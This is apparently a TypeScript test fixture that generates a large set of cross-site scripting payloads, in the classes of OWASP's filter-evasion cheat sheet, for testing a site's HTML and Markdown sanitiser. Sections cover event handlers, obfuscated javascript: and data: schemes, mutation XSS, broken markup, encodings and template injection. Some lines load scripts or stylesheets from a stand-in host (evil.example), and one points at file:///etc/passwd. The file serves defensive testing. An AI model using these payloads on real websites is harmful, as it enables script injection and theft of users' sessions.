// XSS payloads for payloads.test.tsx, in the classes of OWASP's filter evasion cheat sheet, written
// for this site. They are combined from lists of parts, so that a new trick is one more line.
// Elements and attributes that the sanitiser does not know need no line each.

const run = "alert(1)";

const handlers =
  "onload onerror onclick ondblclick onmouseover onmouseenter onmousedown onfocus onfocusin onblur onkeydown onkeypress oninput onchange onsubmit onreset onselect onscroll onwheel ontoggle onanimationstart onanimationend ontransitionend onpointerover onpointerdown onbeforeinput oncopy onpaste ondrag oncontextmenu onbegin onafterprint onhashchange onmessage onpageshow onresize onunload".split(
    " ",
  );

/** Elements with an event handler, in different spellings. */
const handlerForms: readonly ((handler: string) => string)[] = [
  (handler) => `<img src=x ${handler}="${run}">`,
  (handler) => `<p/${handler.toUpperCase()}=${run}>text</p>`,
];

/**
 * Spellings of schemes and hosts that a browser might run or load after normalising the address.
 */
const schemes = [
  "javascript:",
  "JaVaScRiPt:",
  " javascript:",
  "\tjavascript:",
  "\u0001javascript:",
  "\u00a0javascript:",
  "\u200bjavascript:",
  "\u2028javascript:",
  "\ufeffjavascript:",
  "java\tscript:",
  "java\nscript:",
  "java&Tab;script:",
  "java&#10;script:",
  "java&#x0D;script:",
  "javascript&colon;",
  "javascript&#58;",
  "javascript&#x3a;",
  "&#106;avascript:",
  "&#0000106avascript:",
  "&#x6A;&#x61;&#x76;&#x61;script:",
  "javascript\u0000:",
  "j\u0000avascript:",
  "java\\script:",
  "javascript%3a",
  "%6aavascript:",
  "javascript://example.org/%0a",
  "view-source:javascript:",
  "jar:javascript:",
  "feed:javascript:",
  "vbscript:",
  "VBScript:",
  "vb\nscript:",
  "livescript:",
  "mocha:",
  "data:text/html,<script>",
  "data:text/html;base64,PHNjcmlwdD4=",
  "data:image/svg+xml,<svg onload=alert(1)>",
  "DATA:application/xhtml+xml,",
  "blob:https://evil.example/",
  "filesystem:https://evil.example/",
  "file:///etc/passwd#",
  "//evil.example/",
  "\\\\evil.example\\",
  "/\\evil.example/",
  "https:evil.example/",
];

/** Markup around an address. */
const carriers: readonly ((address: string) => string)[] = [
  (address) => `<a href="${address}${run}">text</a>`,
  (address) => `[text](<${address.replaceAll("<", "%3C")}${run}>)`,
  (address) => `![text](${address}${run})`,
  (address) => `<${address}${run}>`,
  (address) => `<img alt="a" src='${address}${run}'>`,
];

const elements = [
  `<script>${run}</script>`,
  `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
  `<script/x>${run}</script>`,
  `<script\n>${run}</script\n>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `<script>${run}`,
  `<script src="data:,${run}">`,
  `</title><script>${run}</script>`,
  `</textarea><script>${run}</script>`,
  `--><script>${run}</script>`,
  `"><script>${run}</script>`,
  `'><script>${run}</script>`,
  `\`><script>${run}</script>`,
  `</script><script>${run}</script>`,
  `<<script>${run}//<</script>`,
  `<%00script>${run}</script>`,
  `<s\u0000cript>${run}</s\u0000cript>`,
  `<script\u00a0>${run}</script>`,
  `<iframe src="javascript:${run}"></iframe>`,
  `<iframe srcdoc="<script>${run}</script>"></iframe>`,
  `<object data="javascript:${run}"></object>`,
  `<base href="javascript:${run}//">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${run}">`,
  `<link rel=stylesheet href="//evil.example/a.css">`,
  `<style>@import '//evil.example/a.css';</style>`,
  `<style><img src="</style><img src=x onerror=${run}>">`,
  `<form action="javascript:${run}"><input type=submit></form>`,
  `<button formaction="javascript:${run}">text</button>`,
  `<input type=image src=x onerror=${run}>`,
  `<template><script>${run}</script></template>`,
  `<noscript><img src=x onerror=${run}></noscript>`,
  `<noembed><img src=x onerror=${run}></noembed>`,
  `<xmp><img src=x onerror=${run}></xmp>`,
  `<plaintext><img src=x onerror=${run}>`,
  `<body background="javascript:${run}" onload=${run}>`,
  `<html manifest="//evil.example"><head><script>${run}</script></head></html>`,
];

const drawings = [
  `<svg onload=${run}>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><script href="//evil.example/x.js"/></svg>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s></svg>`,
  `<svg><a><animate attributeName=href values=javascript:${run} /><text>a</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x'><script>${run}</script></svg>#x"/></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>${run}</script>"></iframe></foreignObject></svg>`,
  `<svg><style><img src=x onerror=${run}></style></svg>`,
  `<svg><![CDATA[><img src=x onerror=${run}>]]></svg>`,
  `<math><annotation-xml encoding="text/html"><script>${run}</script></annotation-xml></math>`,
  `<math><mtext><style><img src=x onerror=${run}></style></mtext></math>`,
];

/** Texts that become something else when their serialised HTML is parsed again (mutation XSS). */
const mutations = [
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${run}>">`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<listing>&lt;img src=x onerror=${run}&gt;</listing>`,
  `<p title="\`onmouseover=${run} ">text</p>`,
  `<img alt="\`\`onerror=${run}" src=x>`,
  `<a href="x\`onclick=${run}\`">text</a>`,
  `<select><option><style></option></select><img src=x onerror=${run}></style></select>`,
  `<table><caption><style></caption><img src=x onerror=${run}></style></table>`,
  `<d><svg><title><script>${run}</script></title></svg></d>`,
  `<b><p><table><a href="javascript:${run}"><b>text</table>`,
  `<xmp><p title="</xmp><svg/onload=${run}>">`,
  `<textarea><p title="</textarea><img src=x onerror=${run}>">`,
  `<title><p title="</title><img src=x onerror=${run}>">`,
  `<iframe><p title="</iframe><img src=x onerror=${run}>">`,
];

const broken = [
  `<img src=x onerror=${run}`,
  `<img """><script>${run}</script>">`,
  `<img src="x"onerror="${run}">`,
  `<img/src=x/onerror=${run}>`,
  `<img\u000csrc=x\u000conerror=${run}>`,
  `<img src=x:x onerror\u000b=${run}>`,
  `<a href=javascript:${run}>text`,
  `<a href='javascript:${run}`,
  `<a"onclick=${run}>text</a>`,
  `<a title="a>" onclick=${run}>text</a>`,
  `< a href="javascript:${run}">text</a>`,
  `<p data-x='"' onclick='${run}' y="'">text</p>`,
  `\u003cimg src=x onerror=${run}\u003e`,
  `<!--[if gte IE 4]><script>${run}</script><![endif]-->`,
  `<!-- --!><img src=x onerror=${run}>-->`,
  `<!--><img src=x onerror=${run}>-->`,
  `<![CDATA[<script>${run}</script>]]>`,
  `<?xml version="1.0"?><script>${run}</script>`,
  `<? foo="><script>${run}</script>">`,
  `<!ENTITY x "<script>"><!DOCTYPE x [<!ENTITY y "${run}">]>&x;`,
  `</ foo="><img src=x onerror=${run}>">`,
  `<xml id=x><i><b><img src=x onerror=${run}></b></i></xml>`,
];

const encodings = [
  `+ADw-script+AD4-${run}+ADw-/script+AD4-`,
  `%3Cscript%3E${run}%3C/script%3E`,
  `\\u003cscript\\u003e${run}\\u003c/script\\u003e`,
  `&lt;script&gt;${run}&lt;/script&gt;`,
  `&amp;lt;script&amp;gt;${run}`,
  `&#60;script&#62;${run}&#60;/script&#62;`,
  `&#x3c;img src=x onerror=${run}&#x3e;`,
  `＜script＞${run}＜/script＞`,
  `\u202e>tpircs<${run}`,
];

const looks = [
  `<p style="background:url(javascript:${run})">text</p>`,
  `<p style="position:fixed;inset:0;z-index:9">text</p>`,
  `<p class="x" id="__proto__" name="location">text</p>`,
  `<img alt=a srcset="//evil.example/x.png 1x, javascript:${run} 2x">`,
  `<picture><source srcset="//evil.example/x.png"><img alt=a src=x onerror=${run}></picture>`,
  `<img alt=a src=x usemap="#m"><map name=m><area href="javascript:${run}"></map>`,
  `<a ping="//evil.example" href="/contact">text</a>`,
  `<a download href="data:text/html,x" target=_blank>text</a>`,
  `<q cite="javascript:${run}">text</q>`,
];

const ofMarkdown = [
  `[text]: javascript:${run}\n\n[text]`,
  `[text]: <javascript:${run}> "title"\n\n![text]`,
  `[text](javascript&#58;${run} "a" onclick=${run})`,
  `[text](/contact "\\" onmouseover=${run} x=\\"")`,
  `[text](/contact '" onmouseover="${run}')`,
  `![a" onerror="${run}](x.png)`,
  `![a](x.png" onerror="${run})`,
  `![a](x.png "\\"><script>${run}</script>")`,
  `[![a](javascript:${run})](javascript:${run})`,
  `[a](java\\script:${run})`,
  `[a]( javascript:${run})`,
  `[a](javascript:${run}%00)`,
  `[<img src=x onerror=${run}>](/contact)`,
  `<https://evil.example/"onmouseover="${run}>`,
  `<mailto:a@b.example?subject="onclick=${run}>`,
  `\`<script>${run}</script>\``,
  `\`\`\`html\n<script>${run}</script>\n\`\`\``,
  `    <script>${run}</script>`,
  `\`\`\`"><img src=x onerror=${run}>\n\n\`\`\``,
  `~~~ js"onclick="${run}\n~~~`,
  `| a | b |\n|---|---|\n| <img src=x onerror=${run}> | javascript:${run} |`,
  `&lt;a href="javascript:${run}"&gt;`,
  `\\<script\\>${run}\\</script\\>`,
];

const templates = [
  `{{constructor.constructor('${run}')()}}`,
  `{{__proto__}}`,
  `{{{<script>${run}</script>}}}`,
  `{% raw %}<script>${run}</script>{% endraw %}`,
  `\${${run}}`,
  `<div ng-app ng-csp>{{$on.curry.call().alert(1)}}</div>`,
  `<p v-html="'<img src=x onerror=${run}>'" @click="${run}" :href="x" x-on:click="${run}" hx-on:click="${run}">text</p>`,
];

/** All payloads, by class. */
export const payloads: Readonly<Record<string, readonly string[]>> = {
  handlers: handlers.flatMap((handler) => handlerForms.map((form) => form(handler))),
  addresses: schemes.flatMap((scheme) => carriers.map((carrier) => carrier(scheme))),
  elements,
  drawings,
  mutations,
  broken,
  encodings,
  looks,
  ofMarkdown,
  templates,
};
